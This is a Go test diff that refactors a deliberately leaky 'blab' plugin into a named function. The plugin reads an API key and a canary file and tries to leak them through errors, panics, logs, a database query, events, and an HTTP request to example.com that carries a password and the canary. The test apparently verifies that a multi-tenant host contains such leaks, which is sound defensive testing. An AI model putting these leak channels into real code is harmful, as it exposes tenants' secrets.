@@ -201,45 +201,8 @@ func TestCanariesAndSecrets(t *testing.T) {
 	victim.PlanBrooding(func(ctx context.Context, files sig.Storage, note string) error {
 		return fmt.Errorf("nothing comes of %s with %v", note, files)
 	})
-	victim.Plan("blab", func(ctx context.Context, s *victim.Suspect, how string) (victim.Loot, error) {
-		secret, err := s.Creds.Get(ctx, "api-key")
-		if err != nil {
-			return victim.Loot{}, err
-		}
-		mine, _ := s.Files.Get(ctx, "canary")
-		switch how {
-		case "answer":
-			return victim.Loot{Text: fmt.Sprintf("%v %+v %#v %s %q %x %s", secret, secret, secret, secret, secret, secret, mine)}, nil
-		case "error":
-			return victim.Loot{}, fmt.Errorf("no luck with %v of %+v: %s", secret, s.Creds, mine)
-		case "panic":
-			panic(fmt.Sprintf("%v %s", secret, mine))
-		case "panic with it":
-			panic(secret)
-		case "log":
-			s.Log().Log(ctx, sig.LevelError, "secret "+secret.String(), sig.Attr{Key: "own", Value: string(mine)})
-		case "job":
-			s.Go(func(context.Context) error { return fmt.Errorf("%v %s", secret, mine) })
-		case "url":
-			return victim.Loot{Text: fmt.Sprintf("%v %+v %#v", s.Settings.Get().URL, s.Settings, s.Pool)}, nil
-		case "database":
-			_, err := s.Pool.Exec(ctx, "SELECT * FROM nothing WHERE x = ?", secret.String())
-			return victim.Loot{}, err
-		case "a server's URL": // that does not answer, or that nobody has linked
-			err := s.Pool.Use(ctx, s.Settings.Get().URL)
-			return victim.Loot{Text: fmt.Sprintf("%+v %#v %v", s.Pool.State(), s.Pool.State(), s.Settings.Get())}, err
-		case "a server's URL in a panic":
-			panic(s.Settings.Get())
-		case "the way outside":
-			_, err := s.HTTP.Do(ctx, sig.HTTPRequest{URL: "https://user:" + passwordOf(s.Target()) + "@example.com/" + string(mine)})
-			return victim.Loot{}, err
-		case "an event":
-			return victim.Loot{}, s.Publish(ctx, "victim.rumour", victim.Rumour{Text: string(mine)})
-		}
-		return victim.Loot{}, nil
-	})
+	victim.Plan("blab", blab)
 	answers := map[string]*strings.Builder{"acme": {}, "globex": {}}
-	hows := []string{"answer", "error", "panic", "panic with it", "log", "job", "url", "database", "an event", "a server's URL", "a server's URL in a panic", "the way outside"}
 	for _, how := range hows {
 		if how == "a server's URL" {
 			for tenant := range answers {
@@ -333,6 +296,48 @@ func TestCanariesAndSecrets(t *testing.T) {
 		t.Errorf("%d lines in the audit's book, want one for each of %d visits", n, 2*len(hows))
 	}
 }
+
+// blab puts what its tenant has, and what it is told in secret, into whatever a call can write.
+func blab(ctx context.Context, s *victim.Suspect, how string) (victim.Loot, error) {
+	secret, err := s.Creds.Get(ctx, "api-key")
+	if err != nil {
+		return victim.Loot{}, err
+	}
+	mine, _ := s.Files.Get(ctx, "canary")
+	switch how {
+	case "answer":
+		return victim.Loot{Text: fmt.Sprintf("%v %+v %#v %s %q %x %s", secret, secret, secret, secret, secret, secret, mine)}, nil
+	case "error":
+		return victim.Loot{}, fmt.Errorf("no luck with %v of %+v: %s", secret, s.Creds, mine)
+	case "panic":
+		panic(fmt.Sprintf("%v %s", secret, mine))
+	case "panic with it":
+		panic(secret)
+	case "log":
+		s.Log().Log(ctx, sig.LevelError, "secret "+secret.String(), sig.Attr{Key: "own", Value: string(mine)})
+	case "job":
+		s.Go(func(context.Context) error { return fmt.Errorf("%v %s", secret, mine) })
+	case "url":
+		return victim.Loot{Text: fmt.Sprintf("%v %+v %#v", s.Settings.Get().URL, s.Settings, s.Pool)}, nil
+	case "database":
+		_, err := s.Pool.Exec(ctx, "SELECT * FROM nothing WHERE x = ?", secret.String())
+		return victim.Loot{}, err
+	case "a server's URL": // that does not answer, or that nobody has linked
+		err := s.Pool.Use(ctx, s.Settings.Get().URL)
+		return victim.Loot{Text: fmt.Sprintf("%+v %#v %v", s.Pool.State(), s.Pool.State(), s.Settings.Get())}, err
+	case "a server's URL in a panic":
+		panic(s.Settings.Get())
+	case "the way outside":
+		_, err := s.HTTP.Do(ctx, sig.HTTPRequest{URL: "https://user:" + passwordOf(s.Target()) + "@example.com/" + string(mine)})
+		return victim.Loot{}, err
+	case "an event":
+		return victim.Loot{}, s.Publish(ctx, "victim.rumour", victim.Rumour{Text: string(mine)})
+	}
+	return victim.Loot{}, nil
+}
+
+// hows are all the ways of blabbing.
+var hows = []string{"answer", "error", "panic", "panic with it", "log", "job", "url", "database", "an event", "a server's URL", "a server's URL in a panic", "the way outside"}
 
 // passwordOf is what a tenant logs in with where it is not by a credential.
 func passwordOf(tenant string) string { return "password-of-" + tenant + "-6b1d" }
